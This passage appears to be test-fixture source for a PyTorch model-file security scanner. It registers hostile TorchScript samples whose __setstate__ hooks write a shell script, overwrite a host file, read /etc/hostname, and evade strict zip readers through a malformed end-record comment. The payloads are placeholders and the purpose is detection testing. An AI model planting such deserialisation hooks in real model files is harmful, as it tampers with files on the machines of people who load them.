             build=lambda: setstate('torch._C._nn.save("echo quarantine-sample", "/tmp/quarantine-sample.sh")'))
    register("malicious/torchscript_from_file_shared.pt", MALICIOUS, ("TRC003", "torch.from_file"),
             desc="TorchScript __setstate__ mapping a host file writable (from_file shared=True) and overwriting it",
             build=lambda: setstate('t = torch.from_file("/tmp/quarantine-sample.txt", True, 64, dtype=0)\n'
                                    '_0 = torch.fill_(t, 0)'))
    register("malicious/torchscript_setstate_save_comment_overrun.pt", MALICIOUS, ("TRC003", "torch.save"),
             desc="the torch.save __setstate__ archive with its end record's comment length past the file's end: "
                  "strict zip readers refuse it, PyTorch's miniz and Python's zipfile read it",
             build=lambda: comment_overrun(setstate('torch.save("echo quarantine-sample", "/tmp/quarantine-sample.sh")')))
    register("malicious/torchscript_from_file_read.pt", SUSPICIOUS, ("TRC004", "torch.from_file"),
             desc="TorchScript __setstate__ reading a host file into a tensor (from_file, not shared)",
             build=lambda: setstate('t = torch.from_file("/etc/hostname", False, 8, dtype=0)'))
